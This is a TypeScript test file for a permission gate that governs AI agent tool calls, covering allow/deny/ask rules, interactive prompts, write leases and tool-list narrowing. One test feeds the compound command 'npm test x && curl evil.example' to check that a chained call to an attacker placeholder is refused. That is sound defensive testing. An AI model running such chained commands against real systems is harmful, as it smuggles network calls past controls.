import type { ToolWrites } from '@meshwork/kit';
import { describe, expect, it } from 'vitest';
import { createAccessPolicy } from '../../src/gate/access-policy.js';
import { createGate } from '../../src/gate/gate.js';
import { createWriteLeases } from '../../src/gate/write-leases.js';

const profile = {
  allow: ['fs:read_*', 'fs:write_file(src/**)', 'shell:run_command(npm test *)'],
  ask: ['fs:write_file(docs/**)'],
  deny: ['fs:*(src/secret/**)'],
};

describe('gate', () => {
  const roots = ['/project'];

  it('allows, denies by rule and by default, and checks every command of a compound line', async () => {
    const gate = createGate({
      policy: createAccessPolicy(profile),
      holder: 'a#1',
      leases: createWriteLeases(),
      projectDir: '/project',
      interactive: false,
    });
    const call = (
      server: string,
      tool: string,
      args: Record<string, unknown>,
      subjectArg: string,
      writes: ToolWrites = false,
    ) => gate.authorize({ server, tool, args, subjectArg, writes, roots });
    expect((await call('fs', 'read_text_file', { path: '/project/a.ts' }, 'path')).allowed).toBe(true);
    const denied = await call('fs', 'write_file', { path: 'src/secret/key.ts' }, 'path', { paths: ['path'] });
    expect(denied).toMatchObject({
      allowed: false,
      decision: { effect: 'deny', rule: 'fs:*(src/secret/**)' },
    });
    expect((await call('fs', 'delete_file', { path: 'src/a.ts' }, 'path')).allowed).toBe(false);
    expect((await call('shell', 'run_command', { command: 'npm test -- --run' }, 'command')).allowed).toBe(
      true,
    );
    const compound = await call(
      'shell',
      'run_command',
      { command: 'npm test x && curl evil.example' },
      'command',
    );
    expect(compound.allowed).toBe(false);
    if (!compound.allowed) {
      expect(compound.code).toBe('E_PERMISSION_DENIED');
      expect(compound.message).toMatch(/^Permission denied: .*curl evil\.example/);
    }
  });

  it('treats ask as deny without a person, and asks the user when interactive', async () => {
    const quiet = createGate({
      policy: createAccessPolicy(profile),
      holder: 'a#1',
      leases: createWriteLeases(),
      projectDir: '/project',
      interactive: false,
    });
    const asked: string[] = [];
    const loud = createGate({
      policy: createAccessPolicy(profile),
      holder: 'a#1',
      leases: createWriteLeases(),
      projectDir: '/project',
      interactive: true,
      prompt: async (question) => {
        asked.push(question.message);
        return true;
      },
    });
    const call = {
      server: 'fs',
      tool: 'write_file',
      args: { path: 'docs/a.md' },
      subjectArg: 'path',
      writes: { paths: ['path'] },
      roots,
    };
    const quietVerdict = await quiet.authorize(call);
    expect(quietVerdict.allowed).toBe(false);
    if (!quietVerdict.allowed) expect(quietVerdict.message).toMatch(/non-interactive/);
    expect((await loud.authorize(call)).allowed).toBe(true);
    expect(asked).toEqual([expect.stringContaining('Allow fs:write_file on "docs/a.md"')]);
  });

  it('gives the first writer a lease and refuses other agents, naming the holder', async () => {
    const leases = createWriteLeases();
    const policy = createAccessPolicy(profile);
    const first = createGate({
      policy,
      holder: 'builder#1',
      leases,
      projectDir: '/project',
      interactive: false,
    });
    const second = createGate({
      policy,
      holder: 'builder#2',
      leases,
      projectDir: '/project',
      interactive: false,
    });
    const call = {
      server: 'fs',
      tool: 'write_file',
      args: { path: 'src/a.ts' },
      subjectArg: 'path',
      writes: { paths: ['path'] },
      roots,
    };
    const granted = await first.authorize(call);
    expect(granted).toMatchObject({ allowed: true, leasedPaths: ['/project/src/a.ts'] });
    // The lease is taken when the write succeeded (see write-leases.test.ts for a failed one).
    if (granted.allowed) await granted.reservation?.commit();
    const again = await first.authorize({ ...call, args: { path: '/project/src/a.ts' } });
    expect(again.allowed).toBe(true);
    if (again.allowed) await again.reservation?.commit();
    const refused = await second.authorize(call);
    expect(refused.allowed).toBe(false);
    if (!refused.allowed) {
      expect(refused.code).toBe('E_WRITE_LEASE');
      expect(refused.message).toMatch(/\/project\/src\/a\.ts is held by builder#1/);
    }
    expect(leases.conflicts()).toEqual([
      expect.objectContaining({ path: '/project/src/a.ts', holder: 'builder#1', refused: 'builder#2' }),
    ]);
  });

  it('checks and leases every path a tool declares it writes, and leases nothing a tool does not write', async () => {
    const leases = createWriteLeases();
    const gate = createGate({
      policy: createAccessPolicy({ allow: ['fs:*(src/**)'] }),
      holder: 'mover#1',
      leases,
      projectDir: '/project',
      interactive: false,
    });
    const move = (destination: string) =>
      gate.authorize({
        server: 'fs',
        tool: 'move_file',
        args: { source: 'src/a.ts', destination },
        subjectArg: 'source',
        writes: { paths: ['source', 'destination'] },
        roots,
      });
    expect(await move('src/b.ts')).toMatchObject({
      allowed: true,
      leasedPaths: ['/project/src/a.ts', '/project/src/b.ts'],
    });
    // The destination is checked too: moving out of src/ is not allowed.
    expect(await move('docs/b.ts')).toMatchObject({ allowed: false, decision: { subject: 'docs/b.ts' } });
    const read = await gate.authorize({
      server: 'fs',
      tool: 'read_text_file',
      args: { path: 'src/c.ts' },
      subjectArg: 'path',
      writes: false,
      roots,
    });
    expect(read).toMatchObject({ allowed: true, leasedPaths: [] });
    expect(leases.holderOf('/project/src/c.ts')).toBeUndefined();
  });

  it('lets an agent tool list narrow its profile but never widen it', () => {
    const narrowed = createAccessPolicy(profile, ['fs:read_*']);
    expect(narrowed.isToolVisible('fs', 'read_text_file')).toBe(true);
    expect(narrowed.isToolVisible('fs', 'write_file')).toBe(false);
    expect(narrowed.isServerVisible('shell')).toBe(false);
    const widened = createAccessPolicy({ allow: ['fs:read_*'] }, ['fs:*', 'shell:*']);
    expect(widened.isToolVisible('fs', 'write_file')).toBe(false);
    expect(widened.isServerVisible('shell')).toBe(false);
  });
});
